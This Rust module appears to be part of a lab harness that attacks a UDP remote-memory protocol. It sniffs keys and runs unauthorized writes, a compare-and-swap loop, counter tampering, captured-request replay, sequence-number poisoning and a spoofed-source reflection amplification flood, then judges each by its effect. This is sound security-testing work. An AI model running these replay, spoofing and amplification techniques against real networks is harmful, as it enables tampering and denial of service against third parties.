//! Attacks on one-sided remote memory (the back-ends' regions, answered by gatherd's
//! XDP responder, `bpf/rmem.bpf.c`), from the cluster side, with what a shared
//! segment shows: the monitor's READs and the balancer's CAS and FETCH-ADD, captured
//! from the mirror of the proxy host's port.
//!
//! The attacker writes ROLE_SERVED, compare-and-swaps ROLE_WANTED in a loop, adds to
//! the shared counter, replays a captured CAS, forges a huge sequence number for the
//! balancer's client id, and sends a READ to the group address with a victim's source
//! address (amplification: bytes answered to the victim / bytes sent).
//!
//! Every success is judged by the **effect**, seen by the lab's own reader of the
//! region (its key, from the proxy host): the word changed, the counter moved, the
//! balancer's next operation failed, the back-ends answered the spoofed source with
//! more bytes than were sent. The attacker's requests are built from what it captured
//! (the key of a captured request; the captured CAS replayed byte for byte), so when
//! the wire changes (an authenticated envelope) the same attacks run against it by
//! capture and replay: a request the attacker cannot seal is refused, and the effect
//! does not happen.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};
use std::time::Duration;

use farside_region::layout;
use farside_rmem::iface::{ClientOptions, RemoteMemory};
use farside_rmem::wire::{Op, RepHeader, ReqHeader, REP_HEADER_BYTES, REQ_HEADER_BYTES};
use farside_rmem::UdpClient;

use super::dc::{Dc, ATK, B0, B1, CLIENT, GROUP, PX, REGION_PORT};
use super::outcome::Outcome;
use super::raw::{ipv4_udp, Packet, RawSender, Sniffer, PROTO_UDP};

/// CAS attempts of the ROLE_WANTED loop.
pub const CAS_LOOP: usize = 200;
/// What the attacker adds to the shared counter.
pub const FADD_DELTA: u64 = 1_000_000;
/// The value the attacker writes into the role words: no site the data-center serves.
const ATTACKER_ROLE: u64 = 0x0000_bad0_0000_0666;
/// How far ahead of the balancer's captured sequence number the forged one is: half
/// of the range a wrapping comparison calls "later", so the server takes it as the
/// newest and every real request after it as old.
const SEQ_JUMP: u64 = 1 << 62;
/// The group READs' pace: one per millisecond (the monitor's own period), so the
/// replies are counted, not lost in a burst.
const GROUP_READ_GAP: Duration = Duration::from_millis(1);
/// Group READs sent with the victim's address.
pub const GROUP_READS: u64 = 100;
/// Bytes each group READ asks for (a region's load record and more).
const GROUP_READ_LEN: u32 = 1024;
/// The victim's port the spoofed READs name.
const VICTIM_PORT: u16 = 9_999;
/// How long the attacker waits for a reply, and for replies to a flood to arrive.
const REPLY_WAIT: Duration = Duration::from_millis(300);
/// The lab's own readers' timeout per operation (the observer and the balancer).
const LAB_OP_TIMEOUT: Duration = Duration::from_millis(300);

/// What the capture showed of the region traffic from the proxy host.
#[derive(Default, Clone)]
pub struct RmemCapture {
    /// The key of a captured READ (the monitor's).
    pub read_key: Option<u64>,
    /// The key of a captured WRITE, CAS or FETCH-ADD (the balancer's).
    pub rw_key: Option<u64>,
    /// The balancer's client id, and the sequence number of its last captured request.
    pub client: Option<u64>,
    pub client_seq: Option<u64>,
    /// Captured CAS requests to b0, in order.
    pub cas: Vec<Packet>,
    /// Requests captured in all.
    pub requests: usize,
}

/// Region requests from `px` to a back-end seen by `s`.
pub fn capture(s: &Sniffer, px: Ipv4Addr, b0: Ipv4Addr) -> RmemCapture {
    let reqs = s.matching(|p| p.proto == PROTO_UDP && p.src == px && p.dport == REGION_PORT);
    let mut c = RmemCapture {
        requests: reqs.len(),
        ..Default::default()
    };
    for p in reqs {
        let Ok(h) = ReqHeader::decode(&p.payload) else {
            continue;
        };
        match Op::from_u8(h.op) {
            Some(Op::Read) => c.read_key = c.read_key.or(Some(h.key)),
            Some(op) => {
                c.rw_key = c.rw_key.or(Some(h.key));
                if c.client.is_none() || c.client == Some(h.client) {
                    c.client = Some(h.client);
                    c.client_seq = Some(h.seq);
                }
                if op == Op::CompareSwap && p.dst == b0 {
                    c.cas.push(p);
                }
            }
            None => {}
        }
    }
    c
}

/// The lab's own clients of b0's region, from the proxy host: an observer (read key)
/// and the balancer (read-write key), as a reconfiguration balancer would hold them.
pub struct LabClients {
    pub observer: UdpClient,
    pub balancer: UdpClient,
}

impl LabClients {
    pub fn open(dc: &Dc) -> io::Result<LabClients> {
        let to = SocketAddr::V4(dc.region_addr(B0));
        let (rk, wk) = (dc.read_key, dc.rw_key);
        dc.dc.run_in_ns(PX, move || {
            let opts = |key| ClientOptions {
                key,
                timeout: LAB_OP_TIMEOUT,
                ..Default::default()
            };
            let e = |e: farside_rmem::RmemError| io::Error::other(e.to_string());
            Ok(LabClients {
                observer: UdpClient::new(to, opts(rk)).map_err(e)?,
                balancer: UdpClient::new(to, opts(wk)).map_err(e)?,
            })
        })
    }

    /// A word of b0's region, as the observer reads it.
    pub fn word(&mut self, w: usize) -> io::Result<u64> {
        let mut b = [0u8; 8];
        self.observer
            .read(w * 8, &mut b)
            .map_err(|e| io::Error::other(format!("observer read of word {w}: {e}")))?;
        Ok(u64::from_le_bytes(b))
    }

    /// Put a word back (the balancer's key), so the next attack starts clean.
    pub fn restore(&mut self, w: usize, v: u64) -> io::Result<()> {
        self.balancer
            .write(w * 8, &v.to_le_bytes())
            .map_err(|e| io::Error::other(format!("restore word {w}: {e}")))
    }

    /// What a reconfiguration balancer does with a role word (captured by the
    /// attacker): read it, CAS it to a new value and back, and bump the shared counter.
    pub fn legit_ops(&mut self) -> io::Result<()> {
        let e = |e: farside_rmem::RmemError| io::Error::other(format!("balancer: {e}"));
        let at = layout::W_ROLE_WANTED * 8;
        let v = self.word(layout::W_ROLE_WANTED)?;
        self.balancer.compare_swap(at, v, v + 1).map_err(e)?;
        self.balancer.compare_swap(at, v + 1, v).map_err(e)?;
        self.balancer
            .fetch_add(layout::W_SHARED_COUNTER * 8, 1)
            .map_err(e)?;
        Ok(())
    }
}

/// The attacker's UDP socket on the cluster side (its own address).
fn attacker_socket(dc: &Dc) -> io::Result<UdpSocket> {
    dc.dc.run_in_ns(ATK, || {
        let s = UdpSocket::bind("0.0.0.0:0")?;
        s.set_read_timeout(Some(REPLY_WAIT))?;
        Ok(s)
    })
}

/// One request from the attacker; the reply's header and payload, if any came.
fn op(
    s: &UdpSocket,
    to: SocketAddrV4,
    h: ReqHeader,
    payload: &[u8],
    sent: &mut (u64, u64),
) -> Option<(RepHeader, Vec<u8>)> {
    let mut req = Vec::new();
    farside_rmem::wire::encode_request(&mut req, &h, payload);
    s.send_to(&req, to).ok()?;
    sent.0 += 1;
    sent.1 += req.len() as u64;
    let mut buf = vec![0u8; 65_536];
    loop {
        let (n, _) = s.recv_from(&mut buf).ok()?;
        if let Ok(r) = RepHeader::decode(&buf[..n]) {
            if r.seq == h.seq {
                return Some((r, buf[REP_HEADER_BYTES..n].to_vec()));
            }
        }
    }
}

fn header(cap: &RmemCapture, op: Op, word: usize, seq: u64) -> ReqHeader {
    ReqHeader {
        op: op as u8,
        flags: 0,
        seq,
        key: cap.rw_key.or(cap.read_key).unwrap_or(0),
        region: 0,
        offset: (word * 8) as u32,
        len: 8,
        client: 0,
    }
}

fn no_key(cap: &RmemCapture) -> Option<Outcome> {
    (cap.rw_key.is_none() && cap.read_key.is_none())
        .then(|| Outcome::untested("no region request was captured from the proxy host"))
}

fn outcome(succeeded: bool, effect: String, sent: (u64, u64), answered: u64) -> Outcome {
    Outcome {
        succeeded,
        effect,
        packets: sent.0,
        bytes: sent.1,
        answered_bytes: answered,
        tested: true,
    }
}

/// WRITE of ROLE_SERVED with the captured key.
pub fn write_role(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    if let Some(o) = no_key(cap) {
        return Ok(o);
    }
    let s = attacker_socket(dc)?;
    let w = layout::W_ROLE_SERVED;
    let old = lab.word(w)?;
    let mut sent = (0, 0);
    let r = op(
        &s,
        dc.region_addr(B0),
        header(cap, Op::Write, w, 1),
        &ATTACKER_ROLE.to_le_bytes(),
        &mut sent,
    );
    let now = lab.word(w)?;
    if now != old {
        lab.restore(w, old)?;
    }
    Ok(outcome(
        now != old,
        format!(
            "ROLE_SERVED {old:#x} → {now:#x}; reply: {}",
            r.map_or("none".into(), |(h, _)| h.status.name().to_string())
        ),
        sent,
        0,
    ))
}

/// [`CAS_LOOP`] compare-and-swaps of ROLE_WANTED to the attacker's value.
pub fn cas_wanted_loop(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    if let Some(o) = no_key(cap) {
        return Ok(o);
    }
    let s = attacker_socket(dc)?;
    let w = layout::W_ROLE_WANTED;
    let old = lab.word(w)?;
    let mut sent = (0, 0);
    let mut expected = 0u64;
    let mut answered = 0;
    for i in 0..CAS_LOOP {
        let mut p = expected.to_le_bytes().to_vec();
        p.extend_from_slice(&ATTACKER_ROLE.to_le_bytes());
        if let Some((h, body)) = op(
            &s,
            dc.region_addr(B0),
            header(cap, Op::CompareSwap, w, 100 + i as u64),
            &p,
            &mut sent,
        ) {
            answered += 1;
            if h.status as u8 == 0 && body.len() >= 8 {
                expected = u64::from_le_bytes(body[..8].try_into().expect("8 bytes"));
            }
        }
    }
    let now = lab.word(w)?;
    if now != old {
        lab.restore(w, old)?;
    }
    Ok(outcome(
        now != old,
        format!("ROLE_WANTED {old:#x} → {now:#x} after {CAS_LOOP} CAS ({answered} answered)"),
        sent,
        0,
    ))
}

/// FETCH-ADD of [`FADD_DELTA`] to the shared counter.
pub fn fadd_counter(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    if let Some(o) = no_key(cap) {
        return Ok(o);
    }
    let s = attacker_socket(dc)?;
    let w = layout::W_SHARED_COUNTER;
    let old = lab.word(w)?;
    let mut sent = (0, 0);
    op(
        &s,
        dc.region_addr(B0),
        header(cap, Op::FetchAdd, w, 1),
        &FADD_DELTA.to_le_bytes(),
        &mut sent,
    );
    let now = lab.word(w)?;
    let moved = now.wrapping_sub(old);
    if moved >= FADD_DELTA {
        lab.restore(w, now.wrapping_sub(FADD_DELTA))?;
    }
    Ok(outcome(
        moved >= FADD_DELTA,
        format!("shared counter {old} → {now}"),
        sent,
        0,
    ))
}

/// The first captured CAS (the balancer's ROLE_WANTED v → v+1, which it then undid)
/// sent again byte for byte with the proxy host's address.
pub fn replay_cas(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    let Some(first) = cap.cas.first() else {
        return Ok(Outcome::untested("no CAS was captured"));
    };
    let w = layout::W_ROLE_WANTED;
    let old = lab.word(w)?;
    let mut raw = RawSender::open(&dc.dc, ATK)?;
    raw.send(&first.raw)?;
    std::thread::sleep(REPLY_WAIT);
    let now = lab.word(w)?;
    if now != old {
        lab.restore(w, old)?;
    }
    Ok(outcome(
        now != old,
        format!("replayed the balancer's CAS: ROLE_WANTED {old:#x} → {now:#x}"),
        (raw.packets, raw.bytes),
        0,
    ))
}

/// A FETCH-ADD of 0 under the balancer's client id with a sequence number far ahead
/// of its captured one ([`SEQ_JUMP`]): does the balancer's next operation still pass?
pub fn huge_seq(dc: &Dc, cap: &RmemCapture, lab: &mut LabClients) -> io::Result<Outcome> {
    let (Some(client), Some(seq), Some(_)) =
        (cap.client, cap.client_seq, cap.rw_key.or(cap.read_key))
    else {
        return Ok(Outcome::untested("no balancer request was captured"));
    };
    let s = attacker_socket(dc)?;
    let forged = seq.wrapping_add(SEQ_JUMP);
    let mut h = header(cap, Op::FetchAdd, layout::W_BALANCER_HEARTBEAT, forged);
    h.client = client;
    let mut sent = (0, 0);
    let r = op(&s, dc.region_addr(B0), h, &0u64.to_le_bytes(), &mut sent);
    let next = lab.balancer.fetch_add(layout::W_BALANCER_HEARTBEAT * 8, 0);
    let failed = next.is_err();
    // A poisoned client id stays poisoned: the lab's balancer starts afresh (a new id).
    *lab = LabClients::open(dc)?;
    Ok(outcome(
        failed,
        format!(
            "forged seq {forged:#x} (captured {seq:#x} + 2^62) for the balancer's client id \
             (reply: {}); the balancer's next operation: {}",
            r.map_or("none".into(), |(h, _)| h.status.name().to_string()),
            match next {
                Ok(_) => "ok".to_string(),
                Err(e) => format!("failed ({e})"),
            }
        ),
        sent,
        0,
    ))
}

/// [`GROUP_READS`] READs to the group address with the client node's address as
/// source: bytes the back-ends answered to it (seen on the mirrored segment) against
/// bytes sent.
pub fn group_read(dc: &Dc, cap: &RmemCapture, sniff: &Sniffer) -> io::Result<Outcome> {
    let Some(key) = cap.read_key.or(cap.rw_key) else {
        return Ok(Outcome::untested("no region request was captured"));
    };
    let victim = SocketAddrV4::new(dc.dc.node_ip(CLIENT), VICTIM_PORT);
    let backends = [dc.dc.node_ip(B0), dc.dc.node_ip(B1)];
    let mut raw = RawSender::open(&dc.dc, ATK)?;
    sniff.clear();
    let seq0 = 0x6a77_0000_0000u64;
    let mut sent_payload = 0u64;
    for i in 0..GROUP_READS {
        let mut req = Vec::new();
        farside_rmem::wire::encode_request(
            &mut req,
            &ReqHeader {
                op: Op::Read as u8,
                flags: 0,
                seq: seq0 + i,
                key,
                region: 0,
                offset: 0,
                len: GROUP_READ_LEN,
                client: 0,
            },
            &[],
        );
        // Padded to the reply's size, as the servers require of a READ.
        req.resize(REP_HEADER_BYTES + GROUP_READ_LEN as usize, 0);
        debug_assert!(req.len() >= REQ_HEADER_BYTES);
        sent_payload += req.len() as u64;
        raw.send(&ipv4_udp(
            victim,
            SocketAddrV4::new(GROUP, REGION_PORT),
            &req,
        ))?;
        std::thread::sleep(GROUP_READ_GAP);
    }
    std::thread::sleep(REPLY_WAIT);
    let replies = sniff.matching(|p| {
        p.proto == PROTO_UDP
            && backends.contains(&p.src)
            && p.sport == REGION_PORT
            && p.dst == *victim.ip()
            && p.dport == VICTIM_PORT
    });
    // A reply is seen twice when its node's port is mirrored and it is forwarded to
    // the attacker's port as well: count each (node, sequence number) once.
    let mut seen = std::collections::BTreeSet::new();
    let mut answered = 0u64;
    for p in &replies {
        if let Ok(h) = RepHeader::decode(&p.payload) {
            if h.seq >= seq0 && h.seq < seq0 + GROUP_READS && seen.insert((p.src, h.seq)) {
                answered += p.payload.len() as u64;
            }
        }
    }
    let amplification = answered as f64 / sent_payload.max(1) as f64;
    Ok(outcome(
        amplification > 1.0,
        format!(
            "{GROUP_READS} spoofed group READs, {sent_payload} B sent, {answered} B answered to \
             the victim ({} replies): amplification {amplification:.2}",
            seen.len()
        ),
        (raw.packets, raw.bytes),
        answered,
    ))
}
